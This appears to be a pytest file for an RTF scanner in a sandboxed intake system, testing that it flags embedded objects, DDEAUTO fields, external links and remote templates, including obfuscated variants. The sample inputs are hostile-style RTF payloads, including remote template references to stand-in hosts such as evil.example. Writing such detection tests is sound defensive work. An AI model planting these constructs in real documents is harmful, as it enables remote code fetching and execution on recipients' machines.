r"""Hold what is found in RTF, also when its words are cut up as \ob{}ject is not."""

import pytest

from intake.sandbox import Limits
from intake.sandbox.office.rtf import find_in_rtf, read_text
from tests.intake.sandbox.conftest import MakeJail

FOUND = [
    (rb"{\rtf1{\object\objemb{\*\objdata 0105}}}", "rtf_object"),
    (rb"{\rtf1\objupdate x}", "rtf_object"),
    (rb"{\rt{\object\objautlink{\*\objdata 01}}}", "rtf_object"),
    (rb"{\rtf1{\field{\*\fldinst DDEAUTO none.exe x}{\fldrslt a}}}", "office_dde"),
    (rb"{\rtf1{\field{\*\fldinst {\b D}{D\'45}AUTO none.exe}{\fldrslt a}}}", "office_dde"),
    (rb"{\rtf1{\field{\*\fldinst \u68?\u68?E none.exe}{\fldrslt a}}}", "office_dde"),
    (rb"{\rtf1{\field{\*\fldinst INCLUDEPICTURE http://a.example/x}{\fldrslt a}}}",
     "office_external_link"),
    (rb"{\rtf1{\*\template http://a.example/t.dotm}}", "office_remote_template"),
    (rb"{\rtf1{\*\template \'68ttp://a.example/t.dotm}}", "office_remote_template"),
    (rb"{\rtf1{\*\template \\\\server\\t.dotm}}", "office_remote_template"),
    (rb"{\rtf1{\*\template h{\*\xx }t\'74p:/{}/evil.example/t.dotm}}", "office_remote_template"),
    (rb"{\rtf1{\*\template h{\*\xx{y}z}ttp://a.example/t.dotm}}", "office_remote_template"),
    (rb"{\rtf1{\*\template {{h}ttp}://a.example/t.dotm}}", "office_remote_template"),
    (rb"{\rtf1{\*\template {\*\xx \}}http://a.example/t.dotm}}", "office_remote_template"),
    (rb"{\rtf1{\*\template {\*\xx http://a.example/t.dotm}}}", "office_remote_template"),
    (rb"{\rtf1" + rb"{\*\template C:\\a}" * 101 + rb"}", "office_not_fully_read"),
    (rb"{\rtf1{\*\template C:\\Normal.dotm}}", "office_local_template"),
]  # fmt: skip


@pytest.mark.parametrize(("content", "finding"), FOUND)
def test_what_is_inside_is_named(content: bytes, finding: str) -> None:
    assert finding in find_in_rtf(content)


@pytest.mark.parametrize(
    "content", [rb"{\rtf1 plain}", rb"{\rtf1 the word \\object}", rb"{\rtf1\bin}", rb"{\rtf", b""]
)
def test_plain_or_broken_text_has_no_finding(content: bytes) -> None:
    assert find_in_rtf(content) == set()


def test_text_is_read_without_control_words() -> None:
    assert read_text(rb"D{\b D}\'45 \\\\server") == r"DDE \\server"


def test_long_letter_is_judged_and_opened_within_a_few_seconds(make_jail: MakeJail) -> None:
    letter = rb"{\rtf1\ansi " + rb"{\b Hej} v\'e4rld\par " * 500_000 + b"}"
    brief = make_jail(Limits(address_space_bytes=1024**3, cpu_seconds=4, wall_seconds=30.0))

    assert brief.inspect(letter, "text/rtf", "a.rtf").state == "clean"
    assert brief.unpack(letter, "text/rtf", "a.rtf").state == "opened"
